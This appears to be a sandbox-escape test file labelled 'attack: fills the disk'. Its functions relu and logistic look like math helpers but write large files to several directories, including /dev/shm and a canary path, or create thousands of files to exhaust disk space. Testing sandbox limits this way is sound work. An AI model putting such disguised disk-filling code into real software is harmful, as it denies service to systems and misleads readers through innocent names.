# attack: fills the disk
# levels: jail confined
# limits: short
import os
import tempfile


def relu(x):
    for place in (".", tempfile.gettempdir(), "/dev/shm", "@CANARY@"):
        try:
            with open(os.path.join(place, "big"), "wb") as file:
                for _ in range(64):
                    file.write(b"x" * 1_000_000)
        except OSError:
            pass
    return x


def logistic(x):
    for number in range(2_000):
        try:
            open(f"file-{number}", "w").close()
        except OSError:
            return x
